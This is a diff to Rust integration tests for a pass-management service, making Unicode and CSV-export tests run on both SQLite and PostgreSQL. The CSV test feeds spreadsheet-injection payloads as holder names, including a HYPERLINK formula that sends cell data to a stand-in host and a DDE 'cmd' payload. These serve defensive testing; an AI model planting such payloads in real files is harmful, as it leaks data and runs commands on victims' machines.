@@ -2,6 +2,7 @@
 //! that do not tell usernames apart, text that reaches terminals and
 //! spreadsheets, private files and bounded reads.
 
+#[macro_use]
 mod common;
 
 use std::process::{Command, Stdio};
@@ -12,6 +13,12 @@ use gatehouse::domain::user::{Role, User};
 use gatehouse::service::{Gatehouse, bcrypt_runs_on_this_thread};
 
 const OP_PW: &str = "operator pass 1";
+
+both_backends!(
+    search_finds_accented_capitals,
+    invisible_characters_are_refused_and_duplicates_compare_what_is_seen,
+    csv_export_neutralises_formulas_and_imports_again,
+);
 
 fn user(g: &mut Gatehouse, name: &str) -> User {
     g.list_users().unwrap().into_iter().find(|u| u.username == name).unwrap()
@@ -343,27 +350,29 @@ fn reads_need_a_sign_in_and_operators_see_no_payloads() {
 // ---------------------------------------------------------------- Unicode
 
 /// Search folds case over all of Unicode, for passes and residents, in
-/// rows written before the search column existed too.
-#[test]
-fn search_finds_accented_capitals() {
+/// rows written before the search column existed too (a SQLite file from
+/// before migration 2; PostgreSQL had the column from its first schema).
+fn search_finds_accented_capitals(b: Backend) {
     use gatehouse::domain::resident::ResidentRequest;
     use gatehouse::store::PassFilter;
-    let env = Env::new();
+    let env = Env::on(b);
     let mut g = env.open();
     issue(&mut g, &single("Élise Ñúñez", "9876543210"));
     issue(&mut g, &single("Asha Rao", "9876543211"));
     let r = ResidentRequest { name: "ÖZLEM Çelik".into(), room: "B-204".into(), ..Default::default() };
     g.add_resident(&admin(), &r).unwrap();
     drop(g);
-    // Make the database look like one from before migration 2, then reopen.
-    let c = rusqlite::Connection::open(env.db()).unwrap();
-    c.execute_batch(
-        "ALTER TABLE passes DROP COLUMN search_key; ALTER TABLE residents DROP COLUMN search_key;
-         DROP INDEX scans_nonce; ALTER TABLE scans DROP COLUMN nonce; ALTER TABLE scans DROP COLUMN reason;
-         PRAGMA user_version = 1;",
-    )
-    .unwrap();
-    drop(c);
+    if b == Backend::Sqlite {
+        // Make the database look like one from before migration 2, then reopen.
+        let c = rusqlite::Connection::open(env.db()).unwrap();
+        c.execute_batch(
+            "ALTER TABLE passes DROP COLUMN search_key; ALTER TABLE residents DROP COLUMN search_key;
+             DROP INDEX scans_nonce; ALTER TABLE scans DROP COLUMN nonce; ALTER TABLE scans DROP COLUMN reason;
+             PRAGMA user_version = 1;",
+        )
+        .unwrap();
+        drop(c);
+    }
     let mut g = env.open();
     let find = |g: &mut Gatehouse, s: &str| -> Vec<String> {
         let f = PassFilter { search: Some(s.into()), ..Default::default() };
@@ -384,9 +393,8 @@ fn search_finds_accented_capitals() {
 /// Each invisible or direction character is refused in a holder's name, and
 /// a name that differs only in invisible characters or composition is no
 /// way around the one-pass-per-holder check.
-#[test]
-fn invisible_characters_are_refused_and_duplicates_compare_what_is_seen() {
-    let env = Env::new();
+fn invisible_characters_are_refused_and_duplicates_compare_what_is_seen(b: Backend) {
+    let env = Env::on(b);
     let mut g = env.open();
     issue(&mut g, &single("Asha Rao", "9876543210"));
     for c in ['\u{200B}', '\u{2800}', '\u{3164}', '\u{202E}', '\u{FEFF}', '\u{200D}', '\u{2066}', '\u{115F}', '\u{1b}'] {
@@ -407,9 +415,8 @@ fn invisible_characters_are_refused_and_duplicates_compare_what_is_seen() {
 
 /// Formula-looking cells are neutralised, `Anna-Lena` and phones are not,
 /// and the exported file imports into another gatehouse as it is.
-#[test]
-fn csv_export_neutralises_formulas_and_imports_again() {
-    let env = Env::new();
+fn csv_export_neutralises_formulas_and_imports_again(b: Backend) {
+    let env = Env::on(b);
     let mut g = env.open();
     let names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "Anna-Lena"];
     for (i, n) in names.iter().enumerate() {
@@ -441,7 +448,7 @@ fn csv_export_neutralises_formulas_and_imports_again() {
     }
 
     // The round trip: the same holders, phones and references, new ids.
-    let other = Env::new();
+    let other = Env::on(b);
     let mut g2 = other.open();
     let imported = g2.import_passes_file(&admin(), &file).unwrap();
     assert_eq!(imported.len(), rows.len());
